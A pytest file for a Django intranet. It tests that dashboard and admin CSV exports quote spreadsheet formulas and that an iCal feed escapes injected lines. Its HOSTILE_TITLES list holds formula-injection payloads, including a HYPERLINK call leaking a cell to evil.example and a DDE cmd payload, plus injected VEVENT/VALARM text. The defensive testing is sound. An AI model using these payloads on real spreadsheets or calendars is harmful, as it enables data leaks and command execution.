"""What Minka writes for other programs: the dashboard CSV runs no formula in a
spreadsheet, and the iCal feed is RFC 5545 that hostile text cannot bend."""

import csv
import datetime
import io

import pytest
from django.utils import timezone
from icalendar import Calendar

from communities.factories import MeetingPageFactory
from communities.models import CalendarToken
from intranet.spreadsheets import formula_safe
from intranet.translation import translate_page

pytestmark = pytest.mark.django_db

HOSTILE_TITLES = [
    '=HYPERLINK("http://evil.example/?leak="&B3,"Open minutes")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def test_formula_safe_quotes_only_what_a_spreadsheet_would_run():
    assert [formula_safe(title) for title in HOSTILE_TITLES] == [
        "'" + title for title in HOSTILE_TITLES
    ]
    assert formula_safe("Plenary = consensus") == "Plenary = consensus"
    assert formula_safe(-3) == -3  # numbers stay numbers
    assert formula_safe("") == ""


def test_dashboard_csv_writes_hostile_titles_as_text(client, community, member):
    past = timezone.now() - datetime.timedelta(days=30)
    for days, title in enumerate(HOSTILE_TITLES):
        MeetingPageFactory(
            parent=community.members_area(),
            title=title,
            slug=f"hostile-{days}",
            starts_at=past + datetime.timedelta(days=days),
        )
    client.force_login(member)

    response = client.get(f"/communities/{community.slug}/dashboard.csv")

    assert response.content.startswith("\ufeff".encode())  # Excel reads UTF-8
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    titles = [row[1] for row in rows[1 : 1 + len(HOSTILE_TITLES)]]
    assert titles == ["'" + title for title in HOSTILE_TITLES]
    assert rows[0][1] == "Meeting"


def feed(client, community, member, prefix=""):
    token = CalendarToken.for_user(member).token
    response = client.get(f"{prefix}/communities/{community.slug}/ical/{token}/")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/calendar; charset=utf-8"
    return response.content


def test_ical_feed_is_escaped_and_folded(client, community, member):
    MeetingPageFactory(
        parent=community.members_area(),
        title="Plenary, with a very long title that must be folded; "
        "END:VEVENT\nBEGIN:VEVENT\nSUMMARY:Injected",
        venue="Lima\rBEGIN:VALARM\r\nTRIGGER:-PT5M\nEND:VALARM",
        agenda="Private security companies\nUse of force",
        slug="plenary",
    )

    body = feed(client, community, member)

    lines = body.split(b"\r\n")
    assert lines[-1] == b""  # every line ends in CRLF
    assert all(b"\r" not in line and b"\n" not in line for line in lines)
    assert all(len(line) <= 75 for line in lines)
    assert any(line.startswith(b" ") for line in lines)  # a folded title
    calendar = Calendar.from_ical(body)
    assert len(calendar.subcomponents) == 1  # nothing injected
    (event,) = calendar.walk("VEVENT")
    assert not event.subcomponents  # no alarm
    assert str(event["LOCATION"]) == "Lima\nBEGIN:VALARM\nTRIGGER:-PT5M\nEND:VALARM"
    assert str(event["SUMMARY"]).endswith("END:VEVENT\nBEGIN:VEVENT\nSUMMARY:Injected")
    assert str(event["DESCRIPTION"]) == "Private security companies\nUse of force"
    assert str(event["URL"]) == "http://testserver/communities/lima/members/plenary/"
    assert event.decoded("DTSTART") < event.decoded("DTEND")


def test_ical_feed_links_meetings_in_its_language(
    client, spanish_home, community, member
):
    meeting = MeetingPageFactory(
        parent=community.members_area(), title="Plenary", slug="plenary"
    )
    translate_page(community.get_parent(), "es", {"Communities": "Comunidades"})
    translate_page(community, "es")
    translate_page(community.members_area(), "es")
    spanish = translate_page(meeting, "es", {"Plenary": "Plenaria"})

    body = feed(client, community, member, prefix="/es")

    (event,) = Calendar.from_ical(body).walk("VEVENT")
    assert str(event["SUMMARY"]) == "Plenaria"
    assert str(event["URL"]) == f"http://testserver{spanish.url}"
    assert str(event["URL"]).startswith("http://testserver/es/")


@pytest.mark.parametrize(
    ("report", "lists_the_page"),
    [
        ("site-history", True),
        ("locked", True),
        ("aging-pages", False),  # only pages unpublished for long
        ("page-types-usage", False),
    ],
)
def test_admin_report_exports_write_hostile_titles_as_text(
    admin_client, community, admin_user, report, lists_the_page
):
    meeting = MeetingPageFactory(
        parent=community.members_area(), title=HOSTILE_TITLES[0], slug="hostile"
    )
    meeting.save_revision(user=admin_user, log_action=True).publish(user=admin_user)
    meeting.locked, meeting.locked_by = True, admin_user
    meeting.locked_at = timezone.now()
    meeting.save()

    response = admin_client.get(f"/admin/reports/{report}/?export=csv")

    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells), cells
    if lists_the_page:
        assert "'" + HOSTILE_TITLES[0] in cells
